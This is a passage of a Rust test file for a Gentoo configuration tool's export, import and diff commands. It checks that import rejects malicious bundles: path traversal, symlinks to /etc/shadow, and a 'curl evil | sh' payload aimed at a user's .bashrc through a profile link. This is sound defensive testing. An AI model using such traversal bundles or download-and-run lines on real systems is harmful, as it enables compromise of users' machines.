//! `gbuild host export`, `machine import|list` and `diff` on a host-like root the tests build:
//! a clean round trip, every single injected change reported with both values and cleared by a
//! re-import, ignored build-side values, unsafe bundles refused; and the kernel ABI scan of a
//! gpkg holding an ELF with a `.note.ABI-tag`.

use std::path::{Path, PathBuf};
use std::process::Output;

use crate::util::{self, Scratch};

/// A stand-in Gentoo root with a full /etc/portage.
struct HostRoot {
    root: PathBuf,
}

fn write(p: &Path, s: &str) {
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, s).unwrap();
}

const PROFILE: &str = "../../var/db/repos/gentoo/profiles/default/linux/amd64/23.0";

impl HostRoot {
    fn build(root: &Path) -> HostRoot {
        let ep = root.join("etc/portage");
        write(
            &ep.join("make.conf"),
            "# host make.conf\n\
             COMMON_FLAGS=\"-O2 -pipe\"\n\
             CFLAGS=\"${COMMON_FLAGS}\"\n\
             CXXFLAGS=\"${COMMON_FLAGS}\"\n\
             CHOST=\"x86_64-pc-linux-gnu\"\n\
             USE=\"X -systemd ssl\"\n\
             FEATURES=\"splitdebug userpriv\"\n\
             MAKEOPTS=\"-j4\"\n\
             L10N=\"en de\"\n\
             PYTHON_TARGETS=\"python3_12\"\n",
        );
        write(
            &ep.join("make.conf.d/video.conf"),
            "VIDEO_CARDS=\"amdgpu radeonsi\"\n",
        );
        write(
            &ep.join("package.use/foo"),
            "# foo's flags\napp-misc/foo -bar baz\n",
        );
        write(&ep.join("package.use/python"), "dev-lang/python sqlite\n");
        write(
            &ep.join("package.accept_keywords"),
            "app-misc/foo ~amd64\n=dev-libs/libbar-2.0 ~amd64\n",
        );
        write(&ep.join("package.mask"), ">=sys-libs/glibc-3\n");
        write(&ep.join("package.env"), "app-misc/foo nolto.conf\n");
        write(
            &ep.join("env/nolto.conf"),
            "CFLAGS=\"${CFLAGS} -fno-lto\"\n",
        );
        write(&ep.join("env/debug.conf"), "CFLAGS=\"${CFLAGS} -ggdb\"\n");
        write(
            &ep.join("patches/app-misc/foo/fix.patch"),
            "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n",
        );
        write(&ep.join("sets/desktop"), "app-misc/foo\n");
        write(
            &ep.join("repos.conf/gentoo.conf"),
            "[DEFAULT]\nmain-repo = gentoo\n\n[gentoo]\nlocation = /var/db/repos/gentoo\nsync-type = rsync\nsync-uri = rsync://rsync.gentoo.org/gentoo-portage\n",
        );
        write(
            &ep.join("repos.conf/local.conf"),
            "[local]\nlocation = /var/db/repos/local\n",
        );
        write(
            &ep.join("binrepos.conf"),
            "[binhost]\nsync-uri = https://example.org/binpkgs\n",
        );
        std::os::unix::fs::symlink(PROFILE, ep.join("make.profile")).unwrap();
        let repo = root.join("var/db/repos/gentoo");
        std::fs::create_dir_all(repo.join("profiles/default/linux/amd64/23.0")).unwrap();
        write(&repo.join("profiles/repo_name"), "gentoo\n");
        write(
            &repo.join("metadata/timestamp.chk"),
            "Wed, 16 Jun 2021 02:15:01 +0000\n",
        );
        write(
            &repo.join("metadata/timestamp.x"),
            "1623809701 Wed 16 Jun 2021 02:15:01 AM UTC\n",
        );
        write(
            &repo.join("metadata/timestamp.commit"),
            "9fc7a49ad6496faebea1c1d1848199fb6278bcec 1623809701 2021-06-16T02:15:01+00:00\n",
        );
        write(
            &root.join("var/db/repos/local/profiles/repo_name"),
            "local\n",
        );
        write(
            &root.join("var/lib/portage/world"),
            "app-misc/foo\ndev-lang/python\n",
        );
        write(&root.join("var/lib/portage/world_sets"), "@desktop\n");
        write(&root.join("etc/hostname"), "testhost\n");
        // The installed-package database as Portage leaves it, file lists and saved
        // environments included, and the leftover of an interrupted merge.
        let pkg = |cpv: &str, files: &[(&str, &[u8])]| {
            let dir = root.join("var/db/pkg").join(cpv);
            std::fs::create_dir_all(&dir).unwrap();
            for (k, v) in files {
                std::fs::write(dir.join(k), v).unwrap();
            }
        };
        pkg(
            "app-misc/foo-1.2",
            &[
                ("CATEGORY", b"app-misc\n"),
                ("PF", b"foo-1.2\n"),
                ("SLOT", b"0\n"),
                ("EAPI", b"8\n"),
                ("IUSE", b"bar baz\n"),
                ("USE", b"amd64 baz elibc_glibc kernel_linux\n"),
                ("KEYWORDS", b"~amd64\n"),
                ("repository", b"gentoo\n"),
                ("RDEPEND", b"dev-libs/libbar:=\n"),
                ("COUNTER", b"1234\n"),
                ("BUILD_TIME", b"1700000000\n"),
                (
                    "CONTENTS",
                    b"dir /usr/bin\nobj /usr/bin/foo 0123 1700000000\n",
                ),
                ("environment.bz2", b"BZh91AY&SY\x00\xff"),
                ("foo-1.2.ebuild", b"EAPI=8\n"),
                ("NEEDED.ELF.2", b"X86_64;/usr/bin/foo;;;libc.so.6\n"),
            ],
        );
        pkg(
            "dev-lang/python-3.12.3",
            &[
                ("SLOT", b"3.12/3.12\n"),
                ("IUSE", b"+sqlite tk\n"),
                ("USE", b"amd64 sqlite\n"),
                ("EAPI", b"8\n"),
                ("repository", b"gentoo\n"),
                ("PROVIDES", b"x86_64: libpython3.12.so.1.0\n"),
            ],
        );
        pkg(
            "dev-lang/-MERGING-python-3.12.4",
            &[("SLOT", b"3.12/3.12\n")],
        );
        HostRoot {
            root: root.to_path_buf(),
        }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.root.join(rel)
    }

    fn edit(&self, rel: &str, from: &str, to: &str) {
        let p = self.path(rel);
        let s = std::fs::read_to_string(&p).unwrap();
        assert!(s.contains(from), "{rel} lacks {from:?}");
        std::fs::write(&p, s.replace(from, to)).unwrap();
    }
}

struct World {
    scratch: Scratch,
    host: HostRoot,
    store: PathBuf,
    n: usize,
}

impl World {
    fn new() -> World {
        let scratch = Scratch::new();
        let host = HostRoot::build(&scratch.path().join("root"));
        let store = scratch.path().join("store");
        World {
            scratch,
            host,
            store,
            n: 0,
        }
    }

    /// Export the host root into a new bundle file.
    fn export(&mut self, kernel: &str) -> PathBuf {
        self.n += 1;
        let out = self.scratch.path().join(format!("bundle-{}.tar", self.n));
        let o = util::output(
            util::gbuild(&self.store)
                .args(["host", "export", "--root"])
                .arg(&self.host.root)
                .arg("-o")
                .arg(&out)
                .args(["--kernel", kernel]),
        );
        assert!(o.status.success(), "export failed: {}", util::stderr(&o));
        out
    }

    fn import(&self, bundle: &Path, name: &str) -> Output {
        util::output(
            util::gbuild(&self.store)
                .args(["machine", "import"])
                .arg(bundle)
                .args(["--name", name]),
        )
    }

    fn diff(&self, bundle: &Path) -> Output {
        util::gbuild(&self.store)
            .args(["diff", "--machine", "laptop"])
            .arg(bundle)
            .output()
            .unwrap()
    }

    fn machine(&self, name: &str) -> PathBuf {
        self.store.join("machines").join(name)
    }
}

/// The difference lines of `gbuild diff` output (before `ignored:`).
fn differences(out: &str) -> Vec<&str> {
    out.lines().take_while(|l| *l != "ignored:").collect()
}

fn ignored(out: &str) -> Vec<&str> {
    out.lines()
        .skip_while(|l| *l != "ignored:")
        .skip(1)
        .collect()
}

fn tar_names(bundle: &Path) -> Vec<String> {
    let mut ar = tar::Archive::new(std::fs::File::open(bundle).unwrap());
    ar.entries()
        .unwrap()
        .map(|e| {
            let e = e.unwrap();
            let h = e.header();
            assert_eq!(h.uid().unwrap(), 0);
            assert_eq!(h.gid().unwrap(), 0);
            assert!(h.username().unwrap().unwrap_or("").is_empty());
            String::from_utf8_lossy(&e.path_bytes()).into_owned()
        })
        .collect()
}

fn manifest(bundle: &Path) -> serde_json::Value {
    let mut ar = tar::Archive::new(std::fs::File::open(bundle).unwrap());
    let mut e = ar.entries().unwrap().next().unwrap().unwrap();
    assert_eq!(&*e.path_bytes(), b"gbuild-bundle.json");
    let mut s = String::new();
    std::io::Read::read_to_string(&mut e, &mut s).unwrap();
    serde_json::from_str(&s).unwrap()
}

#[test]
fn export_captures_the_host() {
    let mut w = World::new();
    let b = w.export("6.1.0-13-amd64");
    let names = tar_names(&b);
    assert_eq!(names[0], "gbuild-bundle.json");
    let mut sorted = names[1..].to_vec();
    sorted.sort();
    assert_eq!(names[1..], sorted[..], "entries sorted");
    for want in [
        "etc/portage/make.conf",
        "etc/portage/make.conf.d/video.conf",
        "etc/portage/package.use/foo",
        "etc/portage/package.accept_keywords",
        "etc/portage/package.env",
        "etc/portage/env/nolto.conf",
        "etc/portage/patches/app-misc/foo/fix.patch",
        "etc/portage/sets/desktop",
        "etc/portage/repos.conf/gentoo.conf",
        "etc/portage/binrepos.conf",
        "etc/portage/make.profile",
        "var/lib/portage/world",
        "var/lib/portage/world_sets",
    ] {
        assert!(names.iter().any(|n| n == want), "{want} missing: {names:?}");
    }
    let m = manifest(&b);
    assert_eq!(m["format"], 2);
    assert_eq!(m["host"], "testhost");
    assert_eq!(m["kernel"], "6.1.0-13-amd64");
    assert_eq!(m["profile"]["path"], "default/linux/amd64/23.0");
    assert_eq!(m["profile"]["repo"], "gentoo");
    assert_eq!(m["profile"]["link"], PROFILE);
    assert_eq!(m["variables_source"], "make.conf");
    assert_eq!(m["variables"]["CFLAGS"], "-O2 -pipe");
    assert_eq!(m["variables"]["VIDEO_CARDS"], "amdgpu radeonsi");
    let repos = m["repos"].as_array().unwrap();
    assert_eq!(repos[0]["name"], "gentoo");
    assert_eq!(repos[0]["main"], true);
    assert_eq!(repos[0]["identity"]["timestamp_x"], 1623809701);
    assert_eq!(
        repos[0]["identity"]["commit"],
        "9fc7a49ad6496faebea1c1d1848199fb6278bcec"
    );
    assert!(repos
        .iter()
        .any(|r| r["name"] == "local" && r["location"] == "/var/db/repos/local"));
    let files = m["files"].as_array().unwrap();
    let f = files
        .iter()
        .find(|f| f["path"] == "etc/portage/package.use/foo")
        .unwrap();
    assert_eq!(f["size"], 36);
    assert_eq!(f["sha256"].as_str().unwrap().len(), 64);
    assert_eq!(f["mode"], 0o644);
    // Same host state, same bytes (apart from the creation time, fixed here).
    let again = |w: &mut World| {
        w.n += 1;
        let out = w.scratch.path().join(format!("fixed-{}.tar", w.n));
        let o = util::output(
            util::gbuild(&w.store)
                .env("SOURCE_DATE_EPOCH", "1700000000")
                .args(["host", "export", "--no-cpu", "--root"])
                .arg(&w.host.root)
                .arg("-o")
                .arg(&out)
                .args(["--kernel", "6.1.0"]),
        );
        assert!(o.status.success());
        std::fs::read(out).unwrap()
    };
    assert_eq!(again(&mut w), again(&mut w), "export is deterministic");
}

#[test]
fn every_change_is_reported_and_cleared_by_reimport() {
    let mut w = World::new();
    let b0 = w.export("6.1.0");
    let o = w.import(&b0, "laptop");
    assert!(o.status.success());
    assert!(w
        .machine("laptop")
        .join("config/etc/portage/make.conf")
        .is_file());
    assert!(w
        .machine("laptop")
        .join("config/gbuild-bundle.json")
        .is_file());
    assert_eq!(
        std::fs::read_link(w.machine("laptop").join("config/etc/portage/make.profile")).unwrap(),
        Path::new(PROFILE)
    );
    let o = w.diff(&b0);
    assert_eq!(o.status.code(), Some(0), "{}", util::stdout(&o));
    assert!(differences(&util::stdout(&o)).is_empty());
    assert!(!w.machine("laptop").join("needs-update").exists());

    type Change = (&'static str, fn(&HostRoot), &'static str, [&'static str; 2]);
    let changes: Vec<Change> = vec![
        (
            "USE flag in package.use",
            |h| h.edit("etc/portage/package.use/foo", "-bar baz", "bar baz"),
            "6.1.0",
            ["\"-bar baz\"", "\"bar baz\""],
        ),
        (
            "CFLAGS",
            |h| {
                h.edit(
                    "etc/portage/make.conf",
                    "CFLAGS=\"${COMMON_FLAGS}\"",
                    "CFLAGS=\"${COMMON_FLAGS} -ggdb\"",
                )
            },
            "6.1.0",
            ["\"-O2 -pipe\"", "\"-O2 -pipe -ggdb\""],
        ),
        (
            "accept_keywords line",
            |h| {
                h.edit(
                    "etc/portage/package.accept_keywords",
                    "app-misc/foo ~amd64",
                    "app-misc/foo **",
                )
            },
            "6.1.0",
            ["\"~amd64\"", "\"**\""],
        ),
        (
            "profile link",
            |h| {
                let l = h.path("etc/portage/make.profile");
                std::fs::remove_file(&l).unwrap();
                std::os::unix::fs::symlink(format!("{PROFILE}/systemd"), &l).unwrap();
            },
            "6.1.0",
            [
                "default/linux/amd64/23.0 ",
                "default/linux/amd64/23.0/systemd",
            ],
        ),
        (
            "world entry",
            |h| {
                h.edit(
                    "var/lib/portage/world",
                    "dev-lang/python\n",
                    "dev-lang/python\napp-editors/vim\n",
                )
            },
            "6.1.0",
            ["(none)", "\"app-editors/vim\""],
        ),
        (
            "tree snapshot date",
            |h| {
                h.edit(
                    "var/db/repos/gentoo/metadata/timestamp.x",
                    "1623809701",
                    "1704075301",
                );
                h.edit(
                    "var/db/repos/gentoo/metadata/timestamp.chk",
                    "Wed, 16 Jun 2021",
                    "Mon, 01 Jan 2024",
                );
            },
            "6.1.0",
            ["2021-06-16", "2024-01-01"],
        ),
        (
            "package.env entry",
            |h| {
                h.edit(
                    "etc/portage/package.env",
                    "app-misc/foo nolto.conf",
                    "app-misc/foo debug.conf",
                )
            },
            "6.1.0",
            ["\"nolto.conf\"", "\"debug.conf\""],
        ),
        ("kernel version", |_| {}, "6.6.1", ["6.1.0", "6.6.1"]),
    ];
    for (what, change, kernel, [old, new]) in changes {
        change(&w.host);
        let b = w.export(kernel);
        let o = w.diff(&b);
        let out = util::stdout(&o);
        assert_eq!(o.status.code(), Some(1), "{what}: diff exit\n{out}");
        let lines = differences(&out);
        assert_eq!(lines.len(), 1, "{what}: one difference expected:\n{out}");
        assert!(
            lines[0].contains(old) && lines[0].contains(new),
            "{what}: line lacks {old:?} or {new:?}: {}",
            lines[0]
        );
        // A clean re-import clears it, and marks the builder for update.
        let _ = std::fs::remove_file(w.machine("laptop").join("needs-update"));
        let o = w.import(&b, "laptop");
        assert!(o.status.success(), "{what}: import");
        assert!(
            util::stdout(&o).contains(lines[0]),
            "{what}: import shows the change: {}",
            util::stdout(&o)
        );
        let reason = std::fs::read_to_string(w.machine("laptop").join("needs-update")).unwrap();
        assert!(reason.contains(lines[0]), "{what}: needs-update: {reason}");
        assert!(w.machine("laptop").join("config.prev").is_dir());
        let o = w.diff(&b);
        assert_eq!(
            o.status.code(),
            Some(0),
            "{what}: after re-import: {}",
            util::stdout(&o)
        );
    }
    let o = util::output(util::gbuild(&w.store).args(["machine", "list"]));
    let out = util::stdout(&o);
    let row = out.lines().find(|l| l.starts_with("laptop ")).unwrap();
    // A tree stamped 2024-01-01 02:15 is Gentoo's snapshot of 2023-12-31 (made at 00:45 UTC
    // the day after its date).
    for want in ["testhost", "6.6.1", "20231231", "pending"] {
        assert!(row.contains(want), "machine list lacks {want}: {out}");
    }
}

#[test]
fn build_side_values_are_ignored_not_hidden() {
    let mut w = World::new();
    let b0 = w.export("6.1.0");
    assert!(w.import(&b0, "laptop").status.success());
    w.host.edit(
        "etc/portage/make.conf",
        "MAKEOPTS=\"-j4\"",
        "MAKEOPTS=\"-j64\"",
    );
    w.host.edit(
        "etc/portage/make.conf",
        "FEATURES=\"splitdebug userpriv\"",
        "FEATURES=\"splitdebug userpriv buildpkg\"",
    );
    w.host.edit(
        "etc/portage/binrepos.conf",
        "example.org",
        "binhost.example.net",
    );
    let b = w.export("6.1.0");
    let o = w.diff(&b);
    let out = util::stdout(&o);
    assert_eq!(o.status.code(), Some(0), "{out}");
    assert!(differences(&out).is_empty(), "{out}");
    let ig = ignored(&out);
    assert!(
        ig.iter()
            .any(|l| l.contains("MAKEOPTS") && l.contains("-j4") && l.contains("-j64")),
        "{out}"
    );
    assert!(
        ig.iter()
            .any(|l| l.contains("FEATURES") && l.contains("buildpkg")),
        "{out}"
    );
    assert!(ig.iter().any(|l| l.contains("binrepos.conf")), "{out}");
    // A FEATURES change that alters binpkgs is not ignored.
    w.host.edit("etc/portage/make.conf", "splitdebug ", "");
    let b = w.export("6.1.0");
    let o = w.diff(&b);
    let out = util::stdout(&o);
    assert_eq!(o.status.code(), Some(1), "{out}");
    assert!(differences(&out)[0].contains("splitdebug"), "{out}");
}

/// A tar from `entries` (name bytes written raw, so unsafe names survive).
fn raw_tar(entries: &[RawEntry]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, kind, data, link) in entries {
        let mut h = tar::Header::new_gnu();
        {
            let g = h.as_gnu_mut().unwrap();
            g.name[..name.len()].copy_from_slice(name);
            g.linkname[..link.len()].copy_from_slice(link);
        }
        h.set_entry_type(*kind);
        h.set_mode(if kind.is_dir() { 0o755 } else { 0o644 });
        h.set_size(data.len() as u64);
        h.set_mtime(1);
        h.set_cksum();
        b.append(&h, data.as_slice()).unwrap();
    }
    b.into_inner().unwrap()
}

type RawEntry = (Vec<u8>, tar::EntryType, Vec<u8>, Vec<u8>);

fn read_entries(bundle: &Path) -> Vec<RawEntry> {
    let mut ar = tar::Archive::new(std::fs::File::open(bundle).unwrap());
    ar.entries()
        .unwrap()
        .map(|e| {
            let mut e = e.unwrap();
            let name = e.path_bytes().into_owned();
            let kind = e.header().entry_type();
            let link = e
                .link_name_bytes()
                .map(|l| l.into_owned())
                .unwrap_or_default();
            let mut data = Vec::new();
            std::io::Read::read_to_end(&mut e, &mut data).unwrap();
            (name, kind, data, link)
        })
        .collect()
}

#[test]
fn import_refuses_unsafe_bundles() {
    let mut w = World::new();
    let good = w.export("6.1.0");
    assert!(w.import(&good, "laptop").status.success());
    let config_manifest = w.machine("laptop").join("config/gbuild-bundle.json");
    let before = std::fs::read(&config_manifest).unwrap();
    let entries = read_entries(&good);
    let file = |n: &str, d: &str| {
        (
            n.as_bytes().to_vec(),
            tar::EntryType::Regular,
            d.as_bytes().to_vec(),
            Vec::new(),
        )
    };
    let cases: Vec<(&str, Vec<RawEntry>, &str)> = vec![
        ("dotdot", vec![file("../x", "evil\n")], "\"../x\""),
        (
            "nested dotdot",
            vec![file("etc/portage/../../x", "evil\n")],
            "\"etc/portage/../../x\"",
        ),
        (
            "absolute",
            vec![file("/etc/portage/evil", "x\n")],
            "\"/etc/portage/evil\"",
        ),
        ("outside", vec![file("etc/shadow", "x\n")], "\"etc/shadow\""),
        (
            "symlink",
            vec![(
                b"etc/portage/package.use/link".to_vec(),
                tar::EntryType::Symlink,
                Vec::new(),
                b"/etc/shadow".to_vec(),
            )],
            "\"etc/portage/package.use/link\"",
        ),
        (
            "hardlink",
            vec![(
                b"etc/portage/package.mask.hl".to_vec(),
                tar::EntryType::Link,
                Vec::new(),
                b"etc/portage/package.mask".to_vec(),
            )],
            "\"etc/portage/package.mask.hl\"",
        ),
    ];
    let mut bad_bundles: Vec<(String, Vec<RawEntry>, String)> = cases
        .into_iter()
        .map(|(n, extra, want)| {
            let mut e = entries.clone();
            e.extend(extra);
            (n.to_string(), e, want.to_string())
        })
        .collect();
    // A file whose content no longer matches the manifest's hash.
    let mut tampered = entries.clone();
    for e in &mut tampered {
        if e.0 == b"etc/portage/package.use/foo" {
            e.2 = b"app-misc/foo -bar bAz\n".to_vec();
        }
    }
    bad_bundles.push((
        "hash".into(),
        tampered,
        "\"etc/portage/package.use/foo\"".into(),
    ));
    // A file not listed in the manifest.
    let mut unlisted = entries.clone();
    unlisted.push(file("etc/portage/package.use/extra", "x/y z\n"));
    bad_bundles.push((
        "unlisted".into(),
        unlisted,
        "\"etc/portage/package.use/extra\"".into(),
    ));
    for (name, e, want) in bad_bundles {
        let p = w
            .scratch
            .path()
            .join(format!("bad-{}.tar", name.replace(' ', "-")));
        std::fs::write(&p, raw_tar(&e)).unwrap();
        for machine in ["laptop", "fresh"] {
            let o = w.import(&p, machine);
            let err = util::stderr(&o);
            assert_eq!(
                o.status.code(),
                Some(1),
                "{name}: import into {machine} must fail"
            );
            assert!(err.contains(&want), "{name}: error names {want}: {err}");
            assert_eq!(err.lines().count(), 1, "{name}: one line: {err}");
        }
        assert!(!w.machine("fresh").exists(), "{name}: nothing imported");
        assert_eq!(std::fs::read(&config_manifest).unwrap(), before, "{name}");
        assert!(!w.machine("laptop").join("needs-update").exists());
        assert!(!w.machine("laptop").join("config.prev").exists());
        let leftovers: Vec<_> = std::fs::read_dir(w.machine("laptop"))
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with('.'))
            .collect();
        assert!(leftovers.is_empty(), "{leftovers:?}");
        // diff refuses it too, with exit 2.
        let o = w.diff(&p);
        assert_eq!(o.status.code(), Some(2), "{name}: diff exit");
    }
}

const ABI_NOTE_C: &str = r#"
struct abi_note { unsigned namesz, descsz, type; char name[4]; unsigned desc[4]; };
__attribute__((section(".note.ABI-tag"), aligned(4), used))
static const struct abi_note note = { 4, 16, 1, "GNU", { 0, 9, 0, 0 } };
int main(void) { return 0; }
"#;

/// Compile the note program with gcc (`extra` e.g. `-c`), None when gcc is missing.
fn compile_note(dir: &Path, out: &str, extra: &[&str]) -> Option<Vec<u8>> {
    if !util::require(util::which("gcc"), "gcc not installed") {
        return None;
    }
    let src = dir.join("note.c");
    std::fs::write(&src, ABI_NOTE_C).unwrap();
    let exe = dir.join(out);
    let o = util::output(
        std::process::Command::new("gcc")
            .args(extra)
            .arg("-o")
            .arg(&exe)
            .arg(&src),
    );
    assert!(o.status.success(), "gcc failed: {}", util::stderr(&o));
    Some(std::fs::read(exe).unwrap())
}

fn tar_of(files: &[(&str, &[u8], u32)]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, data, mode) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(*mode);
        h.set_mtime(1);
        b.append_data(&mut h, name, *data).unwrap();
    }
    b.into_inner().unwrap()
}

#[test]
fn abi_scan_finds_the_kernel_note_in_a_gpkg() {
    let s = Scratch::new();
    let Some(exe) = compile_note(s.path(), "x", &[]) else {
        return;
    };
    let image = tar_of(&[
        ("image/usr/bin/x", &exe, 0o755),
        ("image/usr/share/doc/x/README", b"not an elf\n", 0o644),
    ]);
    for comp in ["zst", "xz", "gz"] {
        let packed = match comp {
            "zst" => zstd::encode_all(image.as_slice(), 3).unwrap(),
            "xz" => {
                let mut out = Vec::new();
                let mut e = liblzma::write::XzEncoder::new(&mut out, 6);
                std::io::Write::write_all(&mut e, &image).unwrap();
                e.finish().unwrap();
                out
            }
            _ => {
                let mut e = flate2::write::GzEncoder::new(Vec::new(), Default::default());
                std::io::Write::write_all(&mut e, &image).unwrap();
                e.finish().unwrap()
            }
        };
        let gpkg = tar_of(&[
            ("x-1/gpkg-1", b"", 0o644),
            (&format!("x-1/image.tar.{comp}"), &packed, 0o644),
        ]);
        let p = s.path().join(format!("x-1-1-{comp}.gpkg.tar"));
        std::fs::write(&p, gpkg).unwrap();
        let notes = gbuild::abi::scan_binpkg(&p).unwrap();
        assert!(
            notes
                .iter()
                .any(|n| n.file == "/usr/bin/x" && n.os == 0 && n.version == (9, 0, 0)),
            "{comp}: {notes:?}"
        );
        assert!(notes.iter().all(|n| n.file == "/usr/bin/x"), "{notes:?}");
        let held: Vec<_> = notes
            .iter()
            .filter(|n| gbuild::abi::kernel_too_old(n.version, "6.1.0-13-amd64"))
            .collect();
        assert_eq!(held.len(), 1, "{notes:?}");
        assert_eq!(held[0].to_string(), "/usr/bin/x: Linux 9.0.0");
    }
    assert!(gbuild::abi::kernel_too_old((9, 0, 0), "6.1.0-13-amd64"));
    // Legacy xpak: a bzip2 tarball of the image (no image/ prefix) followed by the xpak block.
    let mut tbz2 = Vec::new();
    {
        let mut e = bzip2::write::BzEncoder::new(&mut tbz2, bzip2::Compression::fast());
        let t = tar_of(&[("./usr/bin/x", &exe, 0o755)]);
        std::io::Write::write_all(&mut e, &t).unwrap();
        e.finish().unwrap();
    }
    let xpak = b"XPAKPACK\0\0\0\0\0\0\0\0XPAKSTOP";
    tbz2.extend(xpak);
    tbz2.extend((xpak.len() as u32).to_be_bytes());
    tbz2.extend(b"STOP");
    let p = s.path().join("x-1.tbz2");
    std::fs::write(&p, tbz2).unwrap();
    let notes = gbuild::abi::scan_binpkg(&p).unwrap();
    assert!(
        notes
            .iter()
            .any(|n| n.file == "/usr/bin/x" && n.version == (9, 0, 0)),
        "tbz2: {notes:?}"
    );
    // A relocatable object has no program headers: the section is found instead.
    let obj = compile_note(s.path(), "x.o", &["-c"]).unwrap();
    assert!(gbuild::abi::elf_abi_tags(&obj).contains(&(0, (9, 0, 0))));
    // Not a binpkg: an error naming the file.
    let bad = s.path().join("bad.gpkg.tar");
    std::fs::write(&bad, tar_of(&[("x-1/other", b"x", 0o644)])).unwrap();
    let e = gbuild::abi::scan_binpkg(&bad).unwrap_err().to_string();
    assert!(e.contains("bad.gpkg.tar"), "{e}");
}

fn sha256_hex(data: &[u8]) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(data))
}

/// `entries` (a bundle's, manifest first) with `edit` applied to the manifest.
fn with_manifest(entries: &[RawEntry], edit: impl FnOnce(&mut serde_json::Value)) -> Vec<RawEntry> {
    let mut out = entries.to_vec();
    assert_eq!(out[0].0, b"gbuild-bundle.json");
    let mut m: serde_json::Value = serde_json::from_slice(&out[0].2).unwrap();
    edit(&mut m);
    out[0].2 = serde_json::to_vec_pretty(&m).unwrap();
    out
}

/// A manifest entry for a regular file holding `data`, as the exporter writes it.
fn listed_file(path: &str, data: &[u8]) -> serde_json::Value {
    serde_json::json!({
        "path": path, "kind": "file", "mode": 0o644, "mtime": 1,
        "size": data.len(), "sha256": sha256_hex(data),
    })
}

/// Set the make.profile symlink's target in the manifest entry and the tar entry.
fn relink(entries: &mut [RawEntry], target: &str) {
    for e in entries.iter_mut() {
        if e.0 == b"etc/portage/make.profile" {
            e.3 = target.as_bytes().to_vec();
        }
    }
    let mut m: serde_json::Value = serde_json::from_slice(&entries[0].2).unwrap();
    for f in m["files"].as_array_mut().unwrap() {
        if f["path"] == "etc/portage/make.profile" {
            f["target"] = target.into();
        }
    }
    entries[0].2 = serde_json::to_vec_pretty(&m).unwrap();
}

/// Every entry below `dir` with its content (a link's target), to show nothing changed there.
fn tree_state(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut out = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            let t = std::fs::symlink_metadata(&p).unwrap().file_type();
            if t.is_symlink() {
                let l = std::fs::read_link(&p).unwrap();
                out.push((p, l.into_os_string().into_encoded_bytes()));
            } else if t.is_dir() {
                todo.push(p.clone());
                out.push((p, Vec::new()));
            } else {
                let data = std::fs::read(&p).unwrap();
                out.push((p, data));
            }
        }
    }
    out.sort();
    out
}

#[test]
fn import_never_writes_through_the_profile_link() {
    let mut w = World::new();
    let good = w.export("6.1.0");
    assert!(w.import(&good, "laptop").status.success());
    let entries = read_entries(&good);
    // What an attacker wants to reach: a file of the importing user outside the store.
    let victim = w.scratch.path().join("home");
    std::fs::create_dir_all(victim.join(".config")).unwrap();
    std::fs::write(victim.join(".bashrc"), "# the user's own\n").unwrap();
    let victim_before = tree_state(&victim);
    let store_config = w.machine("laptop").join("config");
    let config_before = tree_state(&store_config);
    // From machines/M/config/etc/portage up to the scratch directory, then into home/.
    let rel_up = "../../../../../../home";
    let evil = b"curl evil | sh\n";
    let below = |target: &str, name: &str| {
        let mut e = with_manifest(&entries, |m| {
            m["files"].as_array_mut().unwrap().push(listed_file(
                &format!("etc/portage/make.profile/{name}"),
                evil,
            ));
        });
        relink(&mut e, target);
        e.push((
            format!("etc/portage/make.profile/{name}").into_bytes(),
            tar::EntryType::Regular,
            evil.to_vec(),
            Vec::new(),
        ));
        e
    };
    let abs_victim = victim.to_string_lossy().into_owned();
    let mut cases: Vec<(&str, Vec<RawEntry>, String)> = vec![
        (
            "absolute link, file below",
            below(&abs_victim, ".bashrc"),
            "\"etc/portage/make.profile/.bashrc\"".into(),
        ),
        (
            "relative link, new file below",
            below(rel_up, "created"),
            "\"etc/portage/make.profile/created\"".into(),
        ),
        (
            "link into the store, file below",
            below("../../../../laptop/config/etc/portage", "package.mask"),
            "\"etc/portage/make.profile/package.mask\"".into(),
        ),
    ];
    // Links alone, the manifest still claiming the host's real profile.
    for (name, target) in [
        ("link to /etc", "/etc"),
        ("relative link to /etc", "../../../../../../../../etc"),
        (
            "link escaping a profile",
            "../../var/db/repos/gentoo/profiles/../../../../etc",
        ),
        ("link to a repository's top", "../../var/db/repos/gentoo"),
    ] {
        let mut e = entries.clone();
        relink(&mut e, target);
        cases.push((name, e, "\"etc/portage/make.profile\"".into()));
    }
    // A real profile in the tree, but the manifest records another one.
    let lying = with_manifest(&entries, |m| {
        m["profile"]["path"] = "default/linux/amd64/23.0/systemd".into();
    });
    cases.push((
        "manifest's profile differs from the link",
        lying,
        "\"etc/portage/make.profile\"".into(),
    ));
    for (name, e, want) in cases {
        let p = w.scratch.path().join(format!(
            "link-{}.tar",
            name.replace(' ', "-").replace('/', "")
        ));
        std::fs::write(&p, raw_tar(&e)).unwrap();
        for machine in ["laptop", "fresh"] {
            let o = w.import(&p, machine);
            let err = util::stderr(&o);
            assert_eq!(
                o.status.code(),
                Some(1),
                "{name}: import into {machine} must fail: {err}"
            );
            assert!(err.contains(&want), "{name}: error names {want}: {err}");
            assert_eq!(err.lines().count(), 1, "{name}: one line: {err}");
            assert_eq!(
                tree_state(&victim),
                victim_before,
                "{name}: outside the store"
            );
            assert!(!victim.join("created").exists(), "{name}");
            assert_eq!(tree_state(&store_config), config_before, "{name}: store");
        }
        assert!(!w.machine("fresh").exists(), "{name}: nothing imported");
        // diff refuses it (exit 2), never "identical" (exit 0).
        let o = w.diff(&p);
        assert_eq!(
            o.status.code(),
            Some(2),
            "{name}: diff: {}",
            util::stdout(&o)
        );
        assert!(
            util::stderr(&o).contains(&want),
            "{name}: {}",
            util::stderr(&o)
        );
    }
    // The host's own relative and absolute forms of the same link are fine.
    for target in [
        PROFILE,
